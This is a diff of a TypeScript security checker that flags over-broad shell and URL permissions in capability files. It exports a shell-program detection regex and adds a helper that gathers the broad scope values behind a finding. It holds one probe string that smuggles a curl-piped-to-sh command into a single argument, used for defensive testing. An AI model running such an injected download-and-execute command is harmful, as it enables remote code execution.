@@ -55,14 +55,14 @@ const broadOpenerUrl = (value: unknown) => {
   return url !== undefined && OPENER_PROBES.some((probe) => labelMatches(url, probe)) ? url : undefined;
 };
 
-const SHELLS = /^(sh|bash|zsh|dash|ksh|fish|cmd|powershell|pwsh)(\.exe)?$/i;
+export const SHELLS = /^(sh|bash|zsh|dash|ksh|fish|cmd|powershell|pwsh)(\.exe)?$/i;
 /** What an attacker's script would pass: one token that the shell runs as several commands. */
 const COMMAND_LINE_PROBE = "id;curl${IFS}example.invalid|sh";
 /**
  * A shell scope entry that runs any command line: a shell program (`sh`, `cmd`, `powershell`, …) whose
  * arguments are unrestricted (`args: true`) or include a validator that accepts a whole command line.
  */
-function anyCommandLine(value: unknown): boolean {
+export function anyCommandLine(value: unknown): boolean {
   if (!isPlainObject(value)) return false;
   const program =
     String(value.cmd ?? value.name ?? "")
@@ -501,4 +501,28 @@ function exposureOf(capability: Capability, tools: RemotePatternTools): Exposure
   if (urls.length) return { kind: "remote", urls: urls.map((url) => url.value) };
   if ([...capability.windows, ...capability.webviews].some((item) => item.value === "*")) return { kind: "every-window" };
   return undefined;
+}
+
+/** Most values a finding is re-read with: a shared global scope can be large, and a message needs few. */
+const MAX_VALUES = 256;
+
+/**
+ * The broad scope values behind a finding, as written (its grants' own scopes, then the plugin's
+ * global scope), for a rule that words where they hold: which programs, which paths.
+ */
+export function broadValues(model: ResolvedModel, found: DangerousGrant): unknown[] {
+  const broad = found.danger.broad;
+  if (!broad) return [];
+  const seen = new Set<string>();
+  const values: unknown[] = [];
+  const add = (value: unknown) => {
+    if (values.length >= MAX_VALUES || broad(value) === undefined) return;
+    const key = canonical(value);
+    if (seen.has(key)) return;
+    seen.add(key);
+    values.push(value);
+  };
+  for (const grant of found.grants) for (const value of grant.scope?.allow ?? []) add(value);
+  for (const key of dangerKeys(found.danger)) for (const value of model.globalScope.get(key)?.allow ?? []) add(value);
+  return values;
 }
